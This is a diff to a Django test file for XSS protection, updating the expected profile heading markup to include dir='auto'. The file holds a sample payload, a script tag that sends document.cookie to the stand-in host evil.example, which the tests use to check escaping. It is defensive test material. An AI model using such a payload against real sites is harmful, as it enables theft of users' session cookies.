@@ -7,7 +7,7 @@ https://docs.djangoproject.com/en/6.1/topics/security/#cross-site-scripting-xss-
 
 from django.utils.html import escape
 
-PROTECTION = "accounts/templates/accounts/profile.html: <h1>{{ user }}</h1>"
+PROTECTION = 'accounts/templates/accounts/profile.html: <h1 dir="auto">{{ user }}</h1>'
 
 SCRIPT = "<script>fetch('//evil.example/' + document.cookie)</script>"
 
@@ -22,7 +22,7 @@ def test_attack_is_shown_as_text(client, reader):
     page = attack(client, reader)
 
     assert page.status_code == 200
-    assert f"<h1>{escape(SCRIPT)}</h1>" in page.text
+    assert f'<h1 dir="auto">{escape(SCRIPT)}</h1>' in page.text
     assert SCRIPT not in page.text
 
 
@@ -32,4 +32,4 @@ def test_control_without_escaping_the_script_is_in_the_page(client, reader, sett
 
     page = attack(client, reader)
 
-    assert f"<h1>{SCRIPT}</h1>" in page.text
+    assert f'<h1 dir="auto">{SCRIPT}</h1>' in page.text
